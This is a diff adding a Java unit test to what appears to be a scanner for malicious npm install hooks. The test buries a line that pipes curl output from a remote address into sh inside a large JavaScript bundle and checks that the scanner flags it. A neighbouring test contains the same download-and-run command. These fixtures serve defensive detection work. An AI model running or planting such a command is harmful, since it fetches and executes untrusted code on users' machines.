@@ -224,6 +224,21 @@ class HookFileRuleTest {
     }
 
     @Test
+    void aBundleIsReadAndWhatIsLargerIsAGap() {
+        String filler = "var a = 'b', c = require('d');\n".repeat(100_000);
+        RecordedReport report = scan(
+                "p/package.json",
+                hook("node x.js"),
+                "p/x.js",
+                filler + "cp.execSync('curl -s http://192.0.2.1/x | sh');\n" + filler);
+        assertThat(found(report)).containsExactly("memory/p/x.js:100001 indicator/hook-runs-download");
+        assertThat(report.gaps())
+                .singleElement()
+                .satisfies(gap -> assertThat(gap.reason()).contains("no more than 4194304 characters"));
+        assertThat(scan("p/package.json", hook("node x.js"), "p/x.js", filler).gaps()).isEmpty();
+    }
+
+    @Test
     void aProgramOfAMachineIsNone() {
         RecordedReport report = scan(
                 "p/package.json", hook("bin/x"), "p/bin/x", "\1\2\0\0\ncurl -s http://192.0.2.1/x | sh\n");
